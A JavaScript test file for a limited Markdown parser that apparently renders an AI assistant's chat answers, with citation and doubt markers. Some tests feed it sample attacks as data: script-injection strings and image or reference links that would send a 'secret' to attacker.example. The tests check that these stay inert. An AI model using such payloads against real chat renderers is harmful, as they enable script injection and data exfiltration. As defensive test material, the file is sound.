import assert from "node:assert/strict";
import test from "node:test";
import { load } from "./support/source.mjs";

const { parseMarkdown, parseInline, withoutHalfMarkers } = await load("markdown");
const kinds = (markdown) => parseMarkdown(markdown).map(([kind]) => kind);

test("blocks of every kind are told apart", () => {
  const markdown = "# Hours\nOpen *daily*.\nStill.\n\n> quoted\n\n- a\n- b\n\n1. x\n\n```js\n<b>\n```\n---\n| A | B |\n|---|:-:|\n| 1 | 2 |\nEnd";
  assert.deepEqual(kinds(markdown), ["p.heading", "p", "blockquote", "ul", "ol", "pre", "hr", ".table", "p"]);
});

test("runs inside a block are told apart", () => {
  assert.deepEqual(parseInline("**bold** and `a*b` [1] [link](/prices) \\*"), [
    ["strong", {}, "bold"], " and ", ["code", {}, "a*b"], " ", ["cite", { number: 1 }], " ", ["a", { href: "/prices" }, "link"], " *",
  ]);
});

test("a sentence that is not borne out is marked, whatever is inside", () => {
  assert.deepEqual(parseInline("Yes. \uFDD0It is **free**.\uFDD1 [1]"), [
    "Yes. ", ["mark.doubt", {}, "It is ", ["strong", {}, "free"], "."], " ", ["cite", { number: 1 }],
  ]);
});

test("markup that is not in the subset stays text", () => {
  for (const written of [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "![logo](https://attacker.example/a.png)",
    "[a][b]",
    "snake_case_name",
    "2 * 3 * 4",
    "&lt;b&gt;",
  ]) {
    const [block] = parseMarkdown(written);
    const [kind, , ...content] = block;
    assert.equal(kind, "p", written);
    assert.ok(content.some((run) => typeof run === "string"), written);
    assert.ok(content.every((run) => typeof run === "string" || (run[0] === "a" && run[1].href !== "b")), written);
  }
});

test("an image never becomes one: its address at most becomes a link", () => {
  const [block] = parseMarkdown("![x](https://attacker.example/?q=secret)");
  assert.ok(!JSON.stringify(block).includes("image"));
});

test("reference-style links and images are not resolved", () => {
  const blocks = parseMarkdown("![x][y]\n\n[y]: https://attacker.example/?q=secret");
  const first = JSON.stringify(blocks[0]);
  assert.ok(!first.includes("attacker"));
});

test("lists nest by indentation and number from where they start", () => {
  const [list, after] = parseMarkdown("3. three\n   more\n   - inner\n   - other\n4. four\n\nEnd");
  const [kind, { start }, first, second, ...others] = list;
  assert.deepEqual([kind, start, second, others.length], ["ol", "3", ["li", { dir: "auto" }, "four"], 0]);
  assert.deepEqual(first.slice(2), ["three", ["br", {}], "more", ["ul", {}, ["li", { dir: "auto" }, "inner"], ["li", { dir: "auto" }, "other"]]]);
  assert.equal(after[0], "p");
});

test("a table keeps as many columns as its head", () => {
  const [table] = parseMarkdown("| Code | Price |\n|---|---|\n| TR-204X7 | 12.50 | extra |\n| TR-118B2 |");
  const [, , , [, , ...rows]] = table[2];
  assert.deepEqual(rows.map(([, , ...cells]) => cells.map(([, , text]) => text)), [["TR-204X7", "12.50"], ["TR-118B2", undefined]]);
});

test("addresses in the text become links without the sentence's own punctuation", () => {
  const link = parseInline("See https://shop.example/a_b?c=1. Thanks").find(([kind]) => kind === "a");
  assert.equal(link[1].href, "https://shop.example/a_b?c=1");
});

test("half a marker at the end of a growing answer stays back", () => {
  assert.equal(withoutHalfMarkers("until 16:00. [1"), "until 16:00.");
  assert.equal(withoutHalfMarkers("until **"), "until ");
  assert.equal(withoutHalfMarkers("see [the pri"), "see the pri");
  assert.equal(withoutHalfMarkers("see [the prices](/s"), "see the prices");
  assert.equal(withoutHalfMarkers("until 16:00. [1]"), "until 16:00. [1]");
});

test("hostile text is parsed in time that grows with its length", () => {
  const hostile = ["*", "_", "`", "[", "](", "**a", "|", "> ", "- ", "[a](", "\\", "http://"];
  for (const piece of hostile) {
    const parsed = parseMarkdown(piece.repeat(Math.ceil(8_000 / piece.length)));
    assert.ok(parsed.length > 0, piece);
  }
});
